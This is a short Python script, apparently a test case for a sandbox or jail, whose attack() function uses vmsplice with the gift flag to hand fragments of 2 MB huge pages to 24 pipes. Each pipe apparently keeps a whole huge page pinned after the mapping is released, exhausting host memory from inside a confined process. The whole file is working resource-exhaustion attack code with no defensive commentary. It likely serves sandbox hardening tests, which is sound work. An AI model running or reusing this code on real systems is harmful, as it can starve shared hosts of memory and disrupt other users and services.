"""Hands pages to pipes and gives them up: each pipe holds on to the whole huge page that they are parts of.

Form: jail
Alive: exhausts
"""

import ctypes
import mmap
import os

HUGE, PIPES, SLOTS, MADV_HUGEPAGE, GIFT = 2 << 20, 24, 8, 14, 8


class Vector(ctypes.Structure):
    _fields_ = [("start", ctypes.c_void_p), ("length", ctypes.c_size_t)]


def attack():
    libc, kept, pinned = ctypes.CDLL(None, use_errno=True), [], 0
    libc.vmsplice.argtypes = [ctypes.c_int, ctypes.POINTER(Vector), ctypes.c_ulong, ctypes.c_uint]
    for _ in range(PIPES):
        kept.append(os.pipe())
        for _ in range(SLOTS):
            room = mmap.mmap(-1, 2 * HUGE, flags=mmap.MAP_PRIVATE | mmap.MAP_ANONYMOUS)
            room.madvise(MADV_HUGEPAGE)
            view = ctypes.c_char.from_buffer(room)
            start = (ctypes.addressof(view) + HUGE - 1) // HUGE * HUGE
            ctypes.memset(start, 1, HUGE)
            pinned += libc.vmsplice(kept[-1][1], Vector(start, 4096), 1, GIFT) == 4096
            del view
            room.close()
    return pinned == PIPES * SLOTS
